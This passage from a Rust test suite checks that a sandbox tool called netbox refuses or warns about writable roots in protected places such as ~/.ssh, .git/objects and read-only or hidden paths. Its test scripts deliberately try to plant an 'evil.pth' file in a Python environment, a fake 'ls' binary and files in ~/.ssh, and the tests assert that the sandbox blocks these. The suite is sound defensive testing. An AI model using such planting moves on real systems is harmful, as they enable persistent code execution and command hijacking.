         echo x > .venv/lib/site-packages/evil.pth && \
         mkdir newbin && echo x > newbin/ls && echo MADE",
    );
    assert_eq!(stdout(&out), "MADE\n", "{}", stderr(&out));
    let err = stderr(&out);
    for said in [format!("{w}/.venv ("), format!("{w}/bin (")] {
        assert!(
            err.lines()
                .any(|l| l.contains("warning") && l.contains(&said)),
            "{said}: {err}"
        );
    }
}

/// A writable root that is, or lies in, a path the sandbox keeps read-only (a protected
/// home entry, `--ro`) or hides (`--hide`) is refused in one line saying which and why,
/// before anything runs: the mounts would leave it read-only, and the live probe's
/// refusal said neither.
#[test]
fn a_writable_root_inside_a_kept_path_is_refused_in_one_line() {
    let dir = TestDir::outside_tmp("root-kept");
    let home = dir.join("home");
    let ssh = home.join(".ssh");
    let notes = dir.join("notes");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::create_dir_all(notes.join("drafts")).unwrap();
    let (ssh, notes) = (ssh.display().to_string(), notes.display().to_string());
    let drafts = format!("{notes}/drafts");
    let cases: [(&[&str], &str, &str); 3] = [
        (&["--write", &ssh], &ssh, "netbox keeps it read-only"),
        (&["--write", &drafts, "--ro", &notes], &drafts, "lies in"),
        (
            &["--write", &drafts, "--hide", &notes],
            &drafts,
            "the sandbox hides",
        ),
    ];
    for (args, root, said) in cases {
        let out = Run::new(&dir)
            .args_from(&[&["--quiet"][..], args].concat())
            .env("HOME", home.display().to_string())
            .sh(&format!("touch {root}/planted"));
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(125), "{args:?}: {err}");
        assert!(
            err.starts_with(&format!("netbox: {root} cannot be a writable root: ")),
            "{args:?}: {err}"
        );
        assert!(err.contains(said), "{args:?}: {err}");
        assert!(!err.contains("probe"), "refused before the probe: {err}");
        assert_eq!(err.lines().count(), 2, "one line and a hint: {err}");
        assert!(!Path::new(root).join("planted").exists());
    }
    // Control: the same directories are written when nothing keeps them.
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--write", &drafts])
        .env("HOME", home.display().to_string())
        .sh(&format!("touch {drafts}/planted && echo OK"));
    assert_eq!(stdout(&out), "OK\n", "{}", stderr(&out));

    // A repository's git data: refused, with the flag that opens its objects; with that
    // flag, a root inside the part it opens is written (the deepest path decides).
    let run = Run::new(&dir);
    git(&run.workspace, &["init", "-q"]);
    let objects = run.workspace.join(".git/objects").display().to_string();
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--write", &objects])
        .env("HOME", home.display().to_string())
        .sh("touch .git/objects/planted");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(
        err.contains("git data") && err.contains("--allow-git-writes"),
        "{err}"
    );
    assert!(!run.workspace.join(".git/objects/planted").exists());
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--allow-git-writes", "--write", &objects])
        .env("HOME", home.display().to_string())
        .sh("touch .git/objects/planted && echo OK");
    assert_eq!(stdout(&out), "OK\n", "{}", stderr(&out));
}

/// With the workspace at home (`--allow-home-write`), a `--write` inside home that the
/// split would leave read-only stays writable, as it is when asked for alone; the rest
/// of the split holds (another program's settings stay read-only).
#[test]
fn a_write_root_inside_a_split_home_stays_writable() {
    TestDir::remove_leftovers_outside_tmp("home-nested-write");
    let dir = TestDir::outside_tmp("home-nested-write");
    let run = Run::new(&dir);
    let home = run.workspace.clone();
    for d in [".config/tool", ".config/other"] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    let tool = home.join(".config/tool").display().to_string();
    let out = Run::new(&dir)
        .args_from(&["--quiet", "--allow-home-write", "--write", &tool])
        .env("HOME", home.display().to_string())
        .sh("touch .config/tool/state && echo TOOL; touch .config/other/planted 2>/dev/null && echo OTHER");
    assert_eq!(stdout(&out), "TOOL\n", "{}", stderr(&out));
    assert!(home.join(".config/tool/state").exists());
    assert!(!home.join(".config/other/planted").exists());
}

/// A home nested in another (`$HOME` inside the account's home) is split on its own when
/// the outer one is made writable: never kept whole as a root of its own. Needs the
/// account's home replaced, in a mount namespace of the test's own: as root only.
#[test]
fn a_home_nested_in_another_is_split_not_kept_whole() {
    let Some(account) = nix::unistd::User::from_uid(nix::unistd::getuid())
        .ok()
        .flatten()
        .map(|u| u.dir)
        .filter(|_| nix::unistd::geteuid().is_root())
    else {
        return;
    };
    TestDir::remove_leftovers_outside_tmp("home-nested");
    let dir = TestDir::outside_tmp("home-nested");
    let scratch = dir.join("account");
    for d in ["inner/.config/other", "inner/work", ".config/app"] {
        std::fs::create_dir_all(scratch.join(d)).unwrap();
    }
    let account = account.display().to_string();
    // netbox started from `cwd` with `home` as $HOME and `--write` of `write`, the scratch
    // directory standing as the account's home, in a mount namespace of its own.
    let run = |cwd: &str, home: &str, write: &str, script: &str| {
        let whole = format!(
            "mount --bind {scratch} {account} && cd {cwd} && HOME={home} {netbox} --quiet \
             --log {log} --allow-home-write --write {write} -- sh -c '{script}'",
            scratch = scratch.display(),
            netbox = netbox_bin().display(),
            log = dir.join("events.jsonl").display(),
        );
        let out = Command::new("unshare")
            .args(["-m", "--propagation", "private", "sh", "-c", &whole])
            .stdin(Stdio::null())
            .output()
            .expect("unshare is needed");
        (stdout(&out), stderr(&out))
    };
    let inner = format!("{account}/inner");
    let plant = "for p in ~/.config/other/x ~/.planted ~/newtop; do \
                 touch $p 2>/dev/null && echo WROTE $p; done; touch ~/work/x && echo CONTROL";
    // Each way round: the workspace at the inner home with the outer one written, and
    // the other way.
    for (cwd, write) in [(&inner, &account), (&account, &inner)] {
        let (out, err) = run(cwd, &inner, write, plant);
        assert_eq!(out, "CONTROL\n", "{cwd}: {err}");
    }
    assert!(!scratch.join("inner/.planted").exists());
    assert!(!scratch.join("inner/newtop").exists());

    // A home under a hidden entry of the other (which the outer split leaves whole): the
    // workspace above it is split as it is when asked for alone, its data written.
    std::fs::create_dir_all(scratch.join(".h/inner")).unwrap();
    std::fs::create_dir_all(scratch.join(".h/data")).unwrap();
    let script = format!(
        "touch {account}/.h/data/x && echo DATA; touch ~/.planted 2>/dev/null && echo PLANTED"
    );
    let (out, err) = run(
        &format!("{account}/.h"),
        &format!("{account}/.h/inner"),
        &account,
        &script,
    );
    assert_eq!(out, "DATA\n", "{err}");
    assert!(!scratch.join(".h/inner/.planted").exists());
}
